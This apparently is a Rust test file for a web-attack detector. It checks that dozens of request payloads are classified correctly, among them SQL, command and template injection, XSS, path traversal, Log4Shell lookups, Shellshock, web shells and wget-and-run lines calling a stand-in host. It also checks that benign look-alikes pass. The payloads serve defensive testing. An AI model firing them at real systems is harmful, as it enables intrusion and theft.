//! Requests as attack tools and manuals write them, and look-alikes that people and programs send.

use super::*;
use crate::payload::signs::{patterns::check_tables, pieces::Unit, web};

/// The surest sign of a message.
fn surest(message: &[u8]) -> Option<(SignKind, u8)> {
    let part = web::Part::of(message)?;
    let signs = web::signs(part, Unit { bytes: message, wire_len: message.len() }).settle();
    signs.iter().next().map(|sign| (sign.kind, sign.sureness))
}

fn get(target: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
        .into_bytes()
}

fn post(kind: &str, body: &str) -> Vec<u8> {
    let length = body.len();
    format!("POST /f HTTP/1.1\r\nHost: a.example\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n{body}")
        .into_bytes()
}

fn with_header(header: &str) -> Vec<u8> {
    format!("GET / HTTP/1.1\r\nHost: a.example\r\n{header}\r\n\r\n").into_bytes()
}

#[test]
fn the_tables_build() {
    check_tables(REQUEST);
    check_tables(ANSWER);
}

#[test]
fn attacks_in_addresses_are_named() {
    let cases: &[(SignKind, &str)] = &[
        (SqlInjection, "/a.php?id=1+union+all+select+1,2,3--"),
        (SqlInjection, "/a.php?id=-1%20UNION%20SELECT%20null,null"),
        (SqlInjection, "/a.php?id=1%2527%2520UNiOn%2520SeLeCt%25201"),
        (SqlInjection, "/index.php?task=somechars%27+%2B+%27search&option=com_search"),
        (SqlInjection, "/a.php?id=1/**/UN/**/ION/**/SEL/**/ECT/**/1' or '1'='1"),
        (SqlInjection, "/login?user=admin%27--&pass=x' or 1=1#"),
        (SqlInjection, "/a?id=1' AND '1'='1"),
        (SqlInjection, "/a?id=(select%20name%20from%20users%20limit%201)"),
        (SqlInjection, "/a?browse=/*select%20*%20from"),
        (RemoteExecution, "/wsman?PSVersion=5.1"),
        (ExploitKit, "/wu2shc5/?664175148e6103c3455a420a040e00000503030a0357010f030452080f0d5306;5110411"),
        (C2Profile, "/AB12/NAME-PC/0/61-SP1/0/FGBFHKBEHLBMG"),
        (SqlInjection, "/a?id=1%20AND%205678%3D5678"),
        (SqlInjection, "/a?id=1%29%20AND%208221%3D9312%20AND%20%286122%3D6122"),
        (SqlInjection, "/a?id=1%27%20AND%20SLEEP%285%29--%20-"),
        (SqlInjection, "/a?id=1%20AND%20%28SELECT%202%20FROM%28SELECT%28SLEEP%285%29%29%29x%29"),
        (SqlInjection, "/a?id=1;WAITFOR%20DELAY%20'0:0:5'--"),
        (SqlInjection, "/a?id=1;SELECT%20PG_SLEEP(5)--"),
        (SqlInjection, "/a?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))"),
        (SqlInjection, "/a?id=1'%3bDROP%20TABLE%20users--"),
        (SqlInjection, "/a?id=1%20ORDER%20BY%2010--"),
        (SqlInjection, "/a?id=1%22%29%2C%2C.%28%27.%28."),
        (SqlInjection, "/a?id=1%20and%20ascii(substring((select%20user()),1,1))>64"),
        (SqlInjection, "/a?id=(SELECT%20CHAR(113)%2BCHAR(98))"),
        (SqlInjection, "/a?q=x'||(select%20banner%20from%20v$version)||'"),
        (NosqlInjection, "/login?user[$ne]=x&pass[$ne]=y"),
        (CrossSiteScripting, "/a?q=<script>alert(1)</script>"),
        (CrossSiteScripting, "/a?q=%3Csvg%2Fonload%3Dalert%281%29%3E"),
        (CrossSiteScripting, "/a?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E"),
        (CrossSiteScripting, "/a?q=%22%20onmouseover=%22alert(1)"),
        (CrossSiteScripting, "/a?u=javascript:alert(document.cookie)"),
        (CrossSiteScripting, "/a?q=%253Cscript%253Ealert(1)"),
        (CrossSiteScripting, "/<script>alert(1)</script>"),
        (PathTraversal, "/a?file=../../../../etc/passwd"),
        (PathTraversal, "/a?file=..%2f..%2f..%2fetc%2fpasswd%00.png"),
        (PathTraversal, "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
        (PathTraversal, "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"),
        (PathTraversal, "/a?page=....//....//....//etc/shadow"),
        (PathTraversal, "/a?f=..\\..\\..\\windows\\win.ini"),
        (FileInclusion, "/a?page=php://filter/convert.base64-encode/resource=index"),
        (FileInclusion, "/a.php?page=http://198.51.100.7/shell.txt?"),
        (FileInclusion, "/i.php?mosConfig_absolute_path=http://a.example/x.txt?"),
        (CommandInjection, "/ping?ip=127.0.0.1;cat%20/etc/passwd"),
        (CommandInjection, "/ping?ip=127.0.0.1%7Cid"),
        (CommandInjection, "/ping?ip=%60id%60"),
        (CommandInjection, "/ping?ip=$(whoami)"),
        (CommandInjection, "/c?ip=a%26%26wget%20http://198.51.100.7/x.sh"),
        (CommandInjection, "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws"),
        (CommandInjection, "/c?x=;ping%20-c%205%20198.51.100.7"),
        (CodeInjection, "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),
        (
            CodeInjection,
            "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
        ),
        (TemplateInjection, "/a?name={{7*7}}"),
        (TemplateInjection, "/a?name=%7B%7B%27%27.__class__.__mro__%7D%7D"),
        (TemplateInjection, "/a.action?redirect:$%7B%23a%3d(new%20java.lang.ProcessBuilder('id')).start()%7D"),
        (TemplateInjection, "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        (JndiLookup, "/?x=${jndi:ldap://198.51.100.7/a}"),
        (JndiLookup, "/?x=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://a.example/a%7D"),
        (JndiLookup, "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://a.example/a}"),
        (RequestForgery, "/fetch?url=http://169.254.169.254/latest/meta-data/"),
        (RequestForgery, "/fetch?url=gopher://127.0.0.1:6379/_INFO"),
        (WebShell, "/uploads/c99.php"),
        (WebShell, "/up/x.php?cmd=whoami"),
        (WebShell, "/up/x.aspx?c=net+user"),
        (ExploitPath, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        (ExploitPath, "/wp-config.php.bak"),
        (ExploitPath, "/GponForm/diag_Form?images/"),
        (ExploitPath, "/actuator/env"),
        (ExploitPath, "/setup.cgi?next_file=netgear.cfg&todo=syscmd"),
    ];
    for (kind, target) in cases {
        let Some((found, sureness)) = surest(&get(target)) else { panic!("nothing in {target}") };
        assert!(sureness >= 70, "{target}: {found:?} {sureness}");
        assert_eq!(found, *kind, "{target}");
    }
}

#[test]
fn attacks_in_headers_and_bodies_are_named() {
    let form = "application/x-www-form-urlencoded";
    let cases: Vec<(SignKind, Vec<u8>)> = vec![
        (ScanTool, with_header("User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)")),
        (ScanTool, with_header("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")),
        (Shellshock, with_header("User-Agent: () { :; }; /bin/bash -c 'id'")),
        (Shellshock, with_header("Cookie: a=() { ignored; }; echo")),
        (JndiLookup, with_header("X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}")),
        (
            TemplateInjection,
            with_header("Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
        ),
        (SqlInjection, with_header("Cookie: id=1' AND SLEEP(5)-- -")),
        (SqlInjection, with_header("X-Forwarded-For: 1' UNION SELECT 1,2,3-- -")),
        (SqlInjection, post(form, "user=admin%27+or+%271%27%3D%271&pass=x")),
        (CommandInjection, post(form, "host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd&go=1")),
        (CrossSiteScripting, post(form, "comment=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E")),
        (WebShell, post(form, "a=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlf")),
        (
            CodeInjection,
            post(
                "multipart/form-data; boundary=x",
                "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n",
            ),
        ),
        (
            ExternalEntity,
            post(
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            ),
        ),
        (TemplateInjection, post("application/json", "{\"x\":\"#{T(java.lang.Runtime).getRuntime().exec('id')}\"}")),
        (FileLeak, b"HTTP/1.1 200 OK\r\n\r\n<pre>root:x:0:0:root:/root:/bin/bash\ndaemon:x:1".to_vec()),
    ];
    for (kind, message) in &cases {
        let shown = String::from_utf8_lossy(message);
        let Some((found, sureness)) = surest(message) else { panic!("nothing in {shown}") };
        assert!(sureness >= 70, "{shown}: {found:?} {sureness}");
        assert_eq!(found, *kind, "{shown}");
    }
}

#[test]
fn kits_bots_and_files_that_run_are_told_by_how_they_are_asked_for() {
    let hex = "0a045103565155580606500954500054".repeat(2);
    let asked = |target: &str, agent: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n").into_bytes()
    };
    let (page, script) = ("Mozilla/5.0", "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)");
    let slug = "/zhbjme-idadlpewpnwbqvmn-hhfsrfojrszh-bjmeidadlpewpnwbqvmnhh-fsrfojrsjqmpsuxe_htjbflccpoubsoostnfaggmiwarh-zyvypq-pkka-xcjx-uxsypqpcvkhm-bbgk-zy.html";
    let attacks: &[(SignKind, Vec<u8>)] = &[
        (ExploitKit, asked(&format!("/u2b871hi/{hex};4060310"), page)),
        (ExploitKit, asked(&format!("/u2b871hi/{hex};112202;228"), page)),
        (ExploitKit, asked("/?sourceid=mozilla&q=wXvQMvXcJwDQA4bGMvrESLtANknQA0KK2Iv2_dqyEoH9f&ie=Windows-1251", page)),
        (ExploitKit, asked("/f/1395876720/2/2", page)),
        (ExploitKit, asked("/1395876720.jar", "Mozilla/4.0 (Windows 7 6.1) Java/1.7.0_13")),
        (ExploitKit, asked("/7/html/META-INF/services/javax.xml.datatype.DatatypeFactory", "Java/1.7.0_13")),
        (ExploitKit, asked("/34033125.mp3", script)),
        (ExploitKit, asked("/tnrvn?hinpt=fjyhdzniepe", script)),
        (ExploitKit, asked(slug, page)),
        (C2Profile, asked("/home.gif?41b8d=1076788", "Opera/8.89")),
        (RiskyFile, asked("/a/b.hlp", page)),
        (RiskyFile, asked("/update.hta", page)),
        (ProgramDownload, asked("/ckeditor/lang/chromeupdates.exe", "Wget/1.12 (linux-gnu)")),
        (ProgramDownload, asked("/microsupdate/microsupdate.exe", page)),
        (ProgramDownload, asked("/winx64_payload.exe", page)),
        (ProgramDownload, asked("/a/reverse_tcp.elf", "curl/8.5.0")),
        (ExploitKit, asked("/exploit.html", page)),
        (C2Profile, asked("/in.php?v=1&cli=DESKTOP-A1B2C3D", "Mozilla/3.0 (compatible; Indy Library)")),
        (C2Profile, asked("/in.php?cli=OFFICE%2D3B59127&", "Mozilla/3.0 (compatible; Indy Library)")),
        (DirectoryTheft, asked("/adfs/services/policystoretransfer", "Mozilla/5.0 WindowsPowerShell/5.1.18362.1171")),
    ];
    for (kind, message) in attacks {
        let found = surest(message);
        let shown = String::from_utf8_lossy(message);
        assert!(found.is_some_and(|(found, sureness)| found == *kind && sureness >= 70), "{shown}: {found:?}");
    }
    let harmless = [
        asked(
            "/the-quick-brown-fox-jumps-over-the-lazy-dog-and-then-writes-a-very-long-title-for-its-own-web-log-about-it-all-the-day.html",
            page,
        ),
        asked(&format!("/static/{hex}.js"), page),
        asked(&format!("/search?q=cheap+flights&oq=cheap+fl&ie=UTF-8&h={hex}"), page),
        asked("/uploads/1395876720.jpg", page),
        asked("/lib/app.jar", "Java/1.8.0_401"),
        asked("/api/v1/status", script),
        asked("/logo.gif?v=20240101", page),
        asked("/adfs/services/trust", page),
        asked("/setup.ps1", "Mozilla/5.0 WindowsPowerShell/5.1.18362.1171"),
        asked("/docs/manual.chm", page),
        asked("/wp-content/uploads/2024/setup.exe", page),
        asked("/search?q='one'+'two'", page),
    ];
    for message in &harmless {
        let found = surest(message);
        assert!(found.is_none_or(|(_, sureness)| sureness < 70), "{}: {found:?}", String::from_utf8_lossy(message));
    }
}

#[test]
fn a_name_and_a_password_that_fill_a_packet_are_an_overflow_even_where_the_packet_was_cut() {
    let head = format!("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic {}", "JTVoxuT3".repeat(25));
    let found = |wire_len| {
        let signs = web::signs(web::Part::Request, Unit { bytes: head.as_bytes(), wire_len }).settle();
        signs.iter().next().map(|sign| (sign.kind, sign.sureness))
    };
    assert_eq!(found(2_048), Some((OverlongField, 80)));
    // The rest may be other headers.
    assert_eq!(found(700), None);
    assert_eq!(found(head.len()), None);
}

#[test]
fn what_people_and_programs_send_is_no_attack() {
    let form = "application/x-www-form-urlencoded";
    let mut messages: Vec<Vec<u8>> = [
        "/",
        "/search?q=select+a+plan+from+the+list",
        "/search?q=sql+select+from+where+order+by",
        "/search?q=select+from+where",
        "/search?q=how+to+drop+a+table+in+excel",
        "/search?q=credit+union+select+account",
        "/search?q=rock+and+roll+or+jazz",
        "/search?q=o%27reilly+books",
        "/search?q=it%27s+1+or+2+%3D+better",
        "/search?q=tom+%26+jerry",
        "/search?q=50%25+off+and+10+more",
        "/search?q=d%27or+et+d%27argent",
        "/search?q=R%26D+%3C+5",
        "/search?q=a+%3C+b+and+c+%3E+d",
        "/search?q=javascript+alert+function",
        "/search?q=what+is+etc",
        "/search?q=cat+pictures;dog+pictures",
        "/search?q=ping+pong",
        "/search?q=c%2B%2B+(gcc)",
        "/go?url=https%3A%2F%2Fwww.example.org%2Fa%3Fb%3Dc%26d%3De",
        "/go?redirect_uri=http://localhost:8080/callback&state=1",
        "/static/../img/logo.png",
        "/a/b/../c?d=../e",
        "/js/app.js?v=1.2.3&cmd=start",
        "/track?e=pageview&c=campaign-1&x=12&y=34",
        "/api?filter[name]=bob&sort=-date",
        "/wp-login.php",
        "/wp-content/plugins/contact-form/style.css",
        "/cgi-bin/status.cgi?id=12",
        "/index.php?option=com_content&view=article&id=12&order=by",
        "/shop?price=10-20&order=asc&having=stock",
        "/?fbclid=IwAR0aBc-dEf_gh%2D&utm_source=a%7Cb",
        "/maps?ll=40.7,-74.0&q=(loc:40.7,-74.0)",
        "/collect?v=1&dl=https%3A%2F%2Fa.example%2F&dt=Caf%C3%A9%20%E2%80%93%20Men%C3%BC",
        "/a?json=%7B%22a%22%3A1%2C%22b%22%3A%5B1%2C2%5D%7D",
        "/a?x=%22quoted%22&y='single'",
        "/a?date=2026-01-01--2026-02-01",
        "/data.json?callback=jQuery123_456&_=1699",
        "/img;jsessionid=ABCDEF?x=1",
        "/ping?host=DESKTOP-A1B2C3D",
        "/shop?sku=item-1234567&lot=a-7654321",
        "/api/payload?id=1",
        "/blog/exploits-of-a-mom.html",
        "/docs/payload.json",
        "/ota/payload.bin",
    ]
    .iter()
    .map(|target| get(target))
    .collect();
    messages.extend([
        post(form, "user=bob&password=p%40ss%27word--1&remember=on"),
        post(form, "comment=I+said+%22hello%22+and+then+%27bye%27+to+1+or+2+people"),
        post("application/json", "{\"query\":\"query { user(id: 1) { name } }\",\"variables\":{\"a\":null}}"),
        post("application/json", "{\"html\":\"<p>Hello <b>world</b></p>\",\"n\":{\"$oid\":\"1\"}}"),
        post("text/xml", "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://a\"><s:Body><u:Get/></s:Body></s:Envelope>"),
        with_header("Cookie: a=b; session=eyJhbGciOiJIUzI1NiJ9.e30.x; theme=dark; _ga=GA1.2.3.4; x='y'"),
        with_header("Referer: https://www.example.org/search?q=union+of+select+committees"),
        with_header("User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
        with_header("User-Agent: curl/8.5.0"),
        with_header("User-Agent: Mozilla/3.0 (compatible; Indy Library)"),
        with_header("User-Agent: Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)"),
        with_header("Authorization: Basic dXNlcjpwYXNz"),
        with_header("Range: bytes=0-499,1000-1499"),
        b"HTTP/1.1 200 OK\r\n\r\n<html>The root: x:0:0 of all SQL evil is syntax</html>".to_vec(),
    ]);
    for message in &messages {
        let found = surest(message);
        assert!(found.is_none_or(|(_, sureness)| sureness < 70), "{}: {found:?}", String::from_utf8_lossy(message));
    }
}

#[test]
fn a_request_cut_anywhere_is_read_as_far_as_it_goes() {
    let whole = get("/a.php?id=1%27+union+select+user,pass+from+users--");
    let mut told = 0;
    for cut in 0..whole.len() {
        told +=
            usize::from(surest(&whole[..cut]).is_some_and(|(kind, sureness)| kind == SqlInjection && sureness >= 70));
    }
    assert!(told > 80, "{told}");
}
